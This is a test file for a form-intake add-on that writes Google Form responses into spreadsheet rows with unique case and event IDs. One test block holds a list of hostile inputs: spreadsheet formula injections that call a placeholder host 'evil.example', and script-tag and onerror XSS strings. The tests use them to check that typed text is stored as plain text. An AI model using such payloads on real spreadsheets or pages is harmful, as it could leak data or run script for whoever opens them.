/**
 * Form responses taken in through the bundle's onFormSubmitted: each to its canonical row,
 * once, with an Event ID or case code never reused, choices in the workbook's language, typed
 * text as text, the new row validated and marked.
 */
import * as vm from 'node:vm';
import type { FakeSpreadsheet } from '../../fakes';
import {
  assistanceAnswers,
  caseAnswers,
  eventAnswers,
  referralAnswers,
  workbookWithForms,
} from '../forms-helpers';
import { ensureBuilt } from '../load-bundle';
import { columnOf, dataRows, day, headerOf, writeRows } from '../workbook-data';

beforeAll(() => ensureBuilt());

function problems(spreadsheet: FakeSpreadsheet, sheet: string) {
  return dataRows(spreadsheet.sheet('Problems'))
    .filter((line) => line[0] === sheet)
    .map((line) => ({ row: line[1], rule: line[4] }));
}

describe('one response of each form', () => {
  const wb = workbookWithForms();
  wb.respond('event', eventAnswers(0));
  wb.respond('case', caseAnswers(0));
  wb.respond('case', caseAnswers(1, { Committee: 'TOKM — Committee TOKM' }));
  wb.respond('followup', referralAnswers('kant-2025-0001 '));
  wb.respond('followup', assistanceAnswers('KANT-2025-0001'));

  test('an event report becomes an Events row with an Event ID, Source = form, Entered at', () => {
    const [row] = wb.rows('events');
    expect(row).toMatchObject({
      'Event ID': 'EV-000001',
      'Committee ID': 'KANT',
      Type: 'Training / seminar',
      Audience: 'Parents',
      Participants: 25,
      Women: 15,
      Men: 10,
      Partners: 'Police, School',
      Topic: 'Prevention talk 0',
      Source: 'Form',
    });
    expect(row?.Date).toEqual(day(2025, 1, 1));
    expect(row?.['Entered at']).toEqual(wb.form('event').responses[0]?.getTimestamp());
  });

  test('a new case gets committee prefix, year and sequence', () => {
    expect(wb.rows('cases').map((r) => [r['Case code'], r['Violence type'], r.Status])).toEqual([
      ['KANT-2025-0001', 'Physical, Psychological', 'Open'],
      ['TOKM-2025-0001', 'Physical, Psychological', 'Open'],
    ]);
  });

  test('a follow-up becomes a Referrals or an Assistance row, its case code cleaned', () => {
    expect(wb.rows('referrals')).toEqual([
      {
        'Case code': 'KANT-2025-0001',
        Date: day(2025, 6, 2),
        'Referred to': 'Crisis centre',
        Outcome: 'Service received',
      },
    ]);
    expect(wb.rows('assistance')).toEqual([
      {
        'Case code': 'KANT-2025-0001',
        Date: day(2025, 6, 3),
        Type: 'Cash aid',
        'Amount KGS': 6500,
        Provider: 'Ayil okmotu',
      },
    ]);
  });

  test('each response is marked taken in, and the Log says where it went', () => {
    expect(wb.statuses('event')).toEqual(['✓ EV-000001 → "Events", row 2']);
    expect(wb.statuses('case')).toEqual([
      '✓ KANT-2025-0001 → "Cases", row 2',
      '✓ TOKM-2025-0001 → "Cases", row 3',
    ]);
    expect(wb.statuses('followup')).toEqual(['✓ → "Referrals", row 2', '✓ → "Assistance", row 2']);
    const log = wb.logLines().map((line) => [line[1], line[3]]);
    expect(log).toContainEqual([
      'Response to "Korgoo: event report"',
      'sheet "Events", row 2, EV-000001; problems: 0',
    ]);
  });
});

test('a bilingual form answered in a Russian workbook writes the Russian labels', () => {
  const wb = workbookWithForms({ lang: 'ru', bilingual: true });
  wb.respond('event', {
    Комитет: 'NARYN — Committee NARYN',
    'Дата / Күнү': day(2025, 4, 10),
    'Тип / Түрү': 'Обучение / семинар / Окутуу / семинар',
    'Участники / Катышуучулар': 30,
    'Партнёры / Өнөктөштөр': ['ОВД / ИИО', 'Школа / Мектеп'],
  });
  expect(wb.rows('events')[0]).toMatchObject({
    'ID мероприятия': 'EV-000001',
    'ID комитета': 'NARYN',
    Тип: 'Обучение / семинар',
    Участники: 30,
    Партнёры: 'ОВД, Школа',
    Источник: 'Форма',
  });
  expect(wb.statuses('event')).toEqual(['✓ EV-000001 → «Мероприятия», строка 2']);
});

describe('identifiers are never reused', () => {
  test('a case code above the counter and above every code in the sheet', () => {
    const wb = workbookWithForms();
    for (let i = 0; i < 3; i++) wb.respond('case', caseAnswers(i));
    // The last case is deleted by hand: its code is not handed out again.
    wb.sheet('cases').grid.deleteRows(4, 1);
    wb.respond('case', caseAnswers(3));
    // A code typed by hand, further on: the next one goes above it.
    writeRows(wb.sheet('cases'), 10, [['KANT-2025-0010', 'KANT']]);
    wb.respond('case', caseAnswers(4));
    // Another year starts its own sequence.
    wb.respond('case', caseAnswers(5, { 'Identified on': day(2024, 12, 31) }));
    expect(
      wb
        .rows('cases')
        .map((r) => r['Case code'])
        .filter(Boolean),
    ).toEqual([
      'KANT-2025-0001',
      'KANT-2025-0002',
      'KANT-2025-0004',
      'KANT-2025-0010',
      'KANT-2025-0011',
      'KANT-2024-0001',
    ]);
  });

  test('an Event ID above every ID in the sheet, typed ones included', () => {
    const wb = workbookWithForms({ events: 5 });
    writeRows(wb.sheet('events'), 7, [['EV-000041']]);
    wb.respond('event', eventAnswers(1));
    expect(wb.statuses('event')).toEqual(['✓ EV-000042 → "Events", row 8']);
  });
});

/**
 * Many responses, each its own execution. 250 rather than 1,000 (which took 50 s of the suite,
 * each response searching a ledger and reading ID columns that grow with the ones before): what
 * this proves, an ID never given twice and a response never taken in twice, is checked per
 * response against the counters, the sheet and the ledger, and no limit of intake lies between
 * 250 and 1,000 (the catch-up's 200 concerns pending responses, of which there are none here).
 */
const MANY = 250;

describe(`${MANY} responses`, () => {
  const wb = workbookWithForms();
  const committees = ['KANT — Committee KANT', 'TOKM — Committee TOKM', 'NARYN — Committee NARYN'];
  const events: ReturnType<typeof wb.submit>[] = [];
  beforeAll(() => {
    for (let i = 0; i < MANY; i++) {
      const event =
        i % 5 === 4
          ? wb.submit('case', caseAnswers(i, { Committee: committees[i % 3] }))
          : wb.submit('event', eventAnswers(i, { Committee: committees[i % 3] }));
      events.push(event);
      wb.deliver(event);
    }
  });

  test(`give ${MANY} canonical rows with unique ids`, () => {
    const ids = [
      ...wb.rows('events').map((r) => r['Event ID']),
      ...wb.rows('cases').map((r) => r['Case code']),
    ];
    expect(ids).toHaveLength(MANY);
    expect(new Set(ids).size).toBe(MANY);
    expect(wb.rows('events')).toHaveLength((MANY * 4) / 5);
    expect(wb.rows('cases')).toHaveLength(MANY / 5);
  });

  test(`delivered a second time (Apps Script fires twice), still ${MANY}`, () => {
    for (const event of events) wb.deliver(event);
    // And once more, all of them, in reverse order.
    for (const event of [...events].reverse()) wb.deliver(event);
    expect(wb.rows('events')).toHaveLength((MANY * 4) / 5);
    expect(wb.rows('cases')).toHaveLength(MANY / 5);
    expect(wb.statuses('event').every((s) => String(s).startsWith('✓'))).toBe(true);
    expect(wb.statuses('case').every((s) => String(s).startsWith('✓'))).toBe(true);
  });
});

describe('typed text lands as text', () => {
  const PAYLOADS = [
    '=IMPORTXML("http://evil.example/x","//a")',
    '+1+1',
    '-2',
    '@SUM(A1:A9)',
    '=HYPERLINK("http://evil.example","click")',
    '\t=1+1',
    '\r=1+1',
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<b>bold</b> & <i>more</i>',
    // An apostrophe the respondent typed is theirs: Sheets would take one for its text marker.
    "'quoted",
    "''twice",
    "'=1+1",
  ];
  const wb = workbookWithForms();
  for (const payload of PAYLOADS) {
    wb.respond('event', eventAnswers(1, { Topic: payload, Decisions: payload }));
    wb.respond(
      'followup',
      assistanceAnswers(payload, { Provider: payload, Type: 'In-kind aid', 'Amount KGS': '' }),
    );
  }

  test('in every free-text answer, exactly as typed', () => {
    const events = wb.rows('events');
    expect(events.map((r) => r.Topic)).toEqual(PAYLOADS);
    expect(events.map((r) => r.Decisions)).toEqual(PAYLOADS);
    expect(wb.rows('assistance').map((r) => r.Provider)).toEqual(PAYLOADS);
    expect(wb.rows('assistance').map((r) => r['Case code'])).toEqual(
      PAYLOADS.map((p) => p.trim().toUpperCase()),
    );
  });

  test('also where the sheet is not formatted as plain text (Sheets parses what is written)', () => {
    const general = workbookWithForms();
    const events = general.sheet('events');
    events
      .getRange(2, 1, events.getMaxRows() - 1, events.getMaxColumns())
      .setNumberFormat('General');
    for (const payload of PAYLOADS) general.respond('event', eventAnswers(1, { Topic: payload }));
    expect(general.rows('events').map((r) => r.Topic)).toEqual(PAYLOADS);
  });

  test('no cell of the workbook holds a formula', () => {
    const formulas: string[] = [];
    for (const sheet of wb.s.spreadsheet.sheetList()) {
      sheet.grid.forEachCell((cell, row, col) => {
        if (cell.formula)
          formulas.push(`${sheet.getNameUncounted()}!R${row}C${col}: ${cell.formula}`);
      });
    }
    expect(formulas).toEqual([]);
  });
});

test('a consent answer into a column of checkboxes ticks the box or not, right under the last case', () => {
  const wb = workbookWithForms();
  const cases = wb.sheet('cases');
  const consent = columnOf('cases', 'consent');
  cases.getRange(2, consent, cases.getMaxRows() - 1, 1).insertCheckboxes();
  wb.respond('case', caseAnswers(0, { 'Consent to share recorded': 'Yes' }));
  wb.respond('case', caseAnswers(1, { 'Consent to share recorded': 'No' }));
  const taken = wb.rows('cases').filter((r) => r['Case code'] !== '');
  expect(taken.map((r) => r['Consent to share recorded'])).toEqual([true, false]);
  // Right under the header: the rows of unticked boxes below count as free, not as entries.
  expect(wb.statuses('case')).toEqual([
    '✓ KANT-2025-0001 → "Cases", row 2',
    '✓ KANT-2025-0002 → "Cases", row 3',
  ]);
  expect(problems(wb.s.spreadsheet, 'Cases')).toEqual([]);
});

describe('a response is kept and its problems are flagged', () => {
  test('naming a committee that was closed since the form was made', () => {
    const wb = workbookWithForms();
    // KANT is closed by hand; the forms still offer it (no sync ran).
    wb.sheet('committees').grid.cell(2, columnOf('committees', 'status')).value = 'Closed';
    wb.respond('event', eventAnswers(3));
    expect(wb.rows('events')).toHaveLength(1);
    expect(wb.rows('events')[0]?.['Committee ID']).toBe('KANT');
    expect(problems(wb.s.spreadsheet, 'Events')).toEqual([
      { row: 2, rule: 'committee_not_active' },
    ]);
    const cell = wb.sheet('events').grid.peek(2, columnOf('events', 'committeeId'));
    expect(cell.note).toContain('Korgoo');
    expect(cell.background).toBe('#fff2cc');
  });

  test('with more women and men than participants, and an unknown case code', () => {
    const wb = workbookWithForms();
    wb.respond('event', eventAnswers(3, { Participants: '5' }));
    wb.respond('followup', referralAnswers('KANT-2025-0099'));
    expect(problems(wb.s.spreadsheet, 'Events')).toEqual([
      { row: 2, rule: 'women_men_exceed_participants' },
    ]);
    expect(problems(wb.s.spreadsheet, 'Referrals').map((p) => p.rule)).toContain('unknown_case');
    expect(wb.rows('referrals')).toHaveLength(1);
  });
});

describe('what is not a Korgoo response is left alone', () => {
  test('a blank event, an event without a range, a header row', () => {
    const wb = workbookWithForms();
    wb.run('onFormSubmitted', undefined);
    wb.run('onFormSubmitted', {});
    wb.run('onFormSubmitted', { range: null });
    wb.run('onFormSubmitted', { range: wb.responseSheet('event').rangeAt(1, 1, 1, 3) });
    expect(wb.rows('events')).toEqual([]);
    expect(wb.s.counter.byPrefix('Range.set')).toBe(0);
  });

  test("a response to a coordinator's own form linked to the same spreadsheet", () => {
    const wb = workbookWithForms();
    const own = wb.s.FormApp.create('Satisfaction survey');
    own.addTextItem().setTitle('Topic');
    own.setDestination('SPREADSHEET', wb.s.spreadsheet.id);
    own.setPublished(true);
    const event = wb.s.FormApp.submit(own.id, { Topic: 'fine' });
    wb.s.counter.reset();
    wb.deliver(event as NonNullable<typeof event>);
    expect(wb.rows('events')).toEqual([]);
    expect(wb.s.counter.byPrefix('Range.set')).toBe(0);
    expect(own.responseSheet?.grid.lastColumn()).toBe(2);
  });
});

describe("a case code's year, when the response gives no date, is this year in the spreadsheet's zone", () => {
  /** A new case whose identified-on date and timestamp are gone (a row pasted as text). */
  function undatedCase(timeZone: string, nowUtc: Date): string[] {
    const wb = workbookWithForms();
    wb.s.spreadsheet.timeZone = timeZone;
    const contextDate = vm.runInContext('Date', wb.ctx) as DateConstructor;
    contextDate.now = () => nowUtc.getTime();
    const event = wb.submit('case', caseAnswers(0));
    const sheet = wb.responseSheet('case');
    const header = headerOf(sheet).map(String);
    sheet.grid.cell(2, 1).value = 'sent by phone';
    sheet.grid.cell(2, header.indexOf('Identified on') + 1).value = '';
    wb.deliver(event);
    return wb.rows('cases').map((r) => String(r['Case code']));
  }

  test('00:30 on 1 January in Bishkek is still 31 December in UTC: the new year', () => {
    expect(undatedCase('Asia/Bishkek', new Date(Date.UTC(2027, 11, 31, 18, 30)))).toEqual([
      'KANT-2028-0001',
    ]);
  });

  test('23:30 on 31 December in UTC is 1 January in Bishkek: the old year', () => {
    expect(undatedCase('UTC', new Date(Date.UTC(2027, 11, 31, 23, 30)))).toEqual([
      'KANT-2027-0001',
    ]);
  });
});

describe('one response moves few cells, whatever the size of Events', () => {
  /** Cells read and written, and Problems lines, for one event report into `rows` events. */
  function oneResponse(rows: number) {
    const wb = workbookWithForms({ events: rows });
    wb.run('validateNow');
    const problemsBefore = dataRows(wb.sheet('problems')).length;
    wb.respond('event', eventAnswers(1));
    wb.s.counter.reset();
    wb.respond('event', eventAnswers(2, { Participants: '5' }));
    const { read, written } = wb.s.counter.cells;
    return { read, written, wb, problemsBefore };
  }

  test('reads two columns of Events, not the sheet; adds its Problems line, rewrites none', () => {
    const { read, written, wb, problemsBefore } = oneResponse(5_000);
    // Event ID and date of 5,000 rows; the rest (headers, the row, Committees) is small.
    expect(read).toBeLessThan(2 * 5_000 + 2_000);
    expect(written).toBeLessThan(200);
    const problems = dataRows(wb.sheet('problems'));
    expect(problems).toHaveLength(problemsBefore + 1);
    expect(problems.at(-1)?.slice(0, 2)).toEqual(['Events', 5_003]);
    expect(problems.at(-1)?.[4]).toBe('women_men_exceed_participants');
  });

  test("a line left on Problems by a row deleted since is replaced by the new row's", () => {
    const wb = workbookWithForms({ events: 100 });
    wb.run('validateNow');
    const lines = wb.sheet('problems');
    const before = dataRows(lines).length;
    // As if row 102 had had a problem before it was deleted, and Validate now not run since.
    writeRows(lines, before + 2, [
      ['Events', 102, 'Participants', 'Error', 'type_int', 'old', 'x'],
    ]);
    wb.respond('event', eventAnswers(1));
    expect(dataRows(lines).filter((line) => line[0] === 'Events' && line[1] === 102)).toEqual([]);
    expect(dataRows(lines)).toHaveLength(before);
  });

  test('a repeated event (same committee, day and type) is still flagged on the new row', () => {
    const wb = workbookWithForms({ events: 5_000 });
    wb.respond('event', eventAnswers(1));
    wb.respond('event', eventAnswers(1, { Topic: 'Same day, same type, again' }));
    expect(problems(wb.s.spreadsheet, 'Events')).toContainEqual({
      row: 5_003,
      rule: 'duplicate_event',
    });
  });
});

describe('one response costs the same few calls, whatever the size of Events', () => {
  /** The SpreadsheetApp steps that placed Korgoo's marks: now requests of the one batchUpdate. */
  const MARKS = [
    'Range.getNotes',
    'Range.getBackgrounds',
    'Range.setNotes',
    'Range.setBackgrounds',
  ];

  /** The Sheets calls by method of the first response after the forms are made, and a later one. */
  function calls(rows: number) {
    const wb = workbookWithForms({ events: rows });
    const sheetsBefore = wb.s.spreadsheet.sheetList().length;
    const counted = (event: ReturnType<typeof wb.submit>) => {
      wb.s.counter.reset();
      wb.deliver(event);
      const all = wb.s.counter.snapshot();
      const sheets = Object.fromEntries(
        Object.entries(all).filter(([name]) =>
          /^(Sheets\.Spreadsheets|Spreadsheet|Sheet|Range|TextFinder|RangeList)\./.test(name),
        ),
      );
      const properties =
        (all['Properties.getProperty'] ?? 0) + (all['Properties.getProperties'] ?? 0);
      return { total: wb.s.counter.sheetsCalls(), sheets, properties };
    };
    // On days that have events already, in both sizes: the check of a repeated event reads the
    // rows near that day, as it does in a workbook in use.
    const first = counted(wb.submit('event', eventAnswers(1, { Date: day(2010, 1, 6) })));
    const later = counted(wb.submit('event', eventAnswers(2, { Date: day(2010, 1, 7) })));
    return { first, later, sheetsMade: wb.s.spreadsheet.sheetList().length - sheetsBefore, wb };
  }

  test('100 and 10,000 rows: the same calls, method by method; the first as many as a later one', () => {
    const small = calls(100);
    const large = calls(10_000);
    expect(large.later.sheets).toEqual(small.later.sheets);
    expect(small.first.sheets).toEqual(small.later.sheets);
    expect(large.first.sheets).toEqual(large.later.sheets);
    // The ledger's sheet was made with the forms: no response makes a sheet.
    expect(small.sheetsMade).toBe(0);
    expect(small.first.sheets['Spreadsheet.insertSheet']).toBeUndefined();
    const marks = MARKS.reduce((sum, name) => sum + (small.later.sheets[name] ?? 0), 0);
    // 13 calls, from 36 (and 47 and 42 before): the layout, three reads and one write of the
    // Sheets API; the row written and read back through SpreadsheetApp; the marks, the status,
    // the ledger and the Log in the one write.
    expect(marks).toBe(0);
    expect(small.later.total).toBeLessThanOrEqual(13);
    expect(small.later.sheets['Sheets.Spreadsheets.get']).toBe(1);
    expect(small.later.sheets['Sheets.Spreadsheets.getByDataFilter']).toBe(3);
    expect(small.later.sheets['Sheets.Spreadsheets.batchUpdate']).toBe(1);
    // No sheet's name is asked: the layout lists them, the response sheet's is not needed.
    expect(small.later.sheets['Sheet.getName']).toBeUndefined();
    // No sheet is looked up; the ledger read with the key columns, never searched.
    expect(small.later.sheets['Spreadsheet.getSheetByName']).toBeUndefined();
    expect(small.later.sheets['Spreadsheet.getSheets']).toBeUndefined();
    expect(small.later.sheets['TextFinder.findNext']).toBeUndefined();
    expect(small.later.sheets['TextFinder.matchCase']).toBeUndefined();
    // An event report has no yes/no answer and no marked text: its row is written in one call.
    expect(small.later.sheets['Range.getDataValidations']).toBeUndefined();
    expect(small.later.sheets['Range.getNumberFormats']).toBeUndefined();
    // The settings are read once before the lock and once under it (plus the add-on's own
    // authorization check), not once per setting.
    expect(small.later.properties).toBeLessThanOrEqual(3);
    expect(small.wb.rows('events')).toHaveLength(102);
    expect(large.wb.statuses('event')).toEqual([
      '✓ EV-000001 → "Events", row 10002',
      '✓ EV-000002 → "Events", row 10003',
    ]);
  });

  test('with lines on the Problems sheet (after Validate now): no call more, whatever the size', () => {
    const counts = [100, 10_000].map((rows) => {
      const wb = workbookWithForms({ events: rows });
      wb.run('validateNow');
      wb.respond('event', eventAnswers(1));
      const event = wb.submit('event', eventAnswers(2));
      wb.s.counter.reset();
      wb.deliver(event);
      return { total: wb.s.counter.sheetsCalls(), search: wb.s.counter.byPrefix('TextFinder.') };
    });
    expect(counts[1]).toEqual(counts[0]);
    // Is a line of a deleted row left there? The Problems sheet's row numbers come with the
    // key columns (36 + 3 calls before: a search, matchEntireCell, findAll).
    expect(counts[0]?.total).toBeLessThanOrEqual(13);
    expect(counts[0]?.search).toBe(0);
  });
});

test('rows sorted, deleted or edited by hand: no response is taken in twice or lost', () => {
  const wb = workbookWithForms();
  const events = [0, 1, 2, 3, 4].map((i) => wb.respond('event', eventAnswers(i)));
  const responses = wb.responseSheet('event');
  const header = headerOf(responses).map(String);
  const status = header.findIndex((h) => h.startsWith('Korgoo')) + 1;
  // The response sheet sorted by hand, newest first: each status moves with its row.
  writeRows(responses, 2, [...dataRows(responses)].reverse());
  // Events: one row deleted, the rest sorted newest first.
  const target = wb.sheet('events');
  target.grid.deleteRows(3, 1);
  writeRows(target, 2, [...dataRows(target)].reverse());
  // The statuses cleared, then every response delivered again and the pending ones processed.
  responses.getRange(2, status, 5, 1).clearContent();
  for (const event of events) wb.deliver(event);
  wb.run('processPendingResponses');
  const ids = () => wb.rows('events').map((r) => r['Event ID']);
  expect(ids()).toEqual(['EV-000005', 'EV-000004', 'EV-000003', 'EV-000001']);
  // Each status back as it was given, on the row its response moved to.
  expect(wb.statuses('event')).toEqual(
    [5, 4, 3, 2, 1].map((n) => `✓ EV-00000${n} → "Events", row ${n + 1}`),
  );
  // A topic corrected by hand in a response taken in: delivered again, still not taken in.
  responses.grid.cell(2, header.indexOf('Topic') + 1).value = 'Prevention talk, corrected';
  for (const event of events) wb.deliver(event);
  wb.run('processPendingResponses');
  expect(ids()).toHaveLength(4);
  // A new response: a new ID (not the deleted one's), in the first free row.
  wb.respond('event', eventAnswers(5));
  expect(ids()).toEqual(['EV-000005', 'EV-000004', 'EV-000003', 'EV-000001', 'EV-000006']);
  expect(wb.statuses('event').at(-1)).toBe('✓ EV-000006 → "Events", row 6');
});
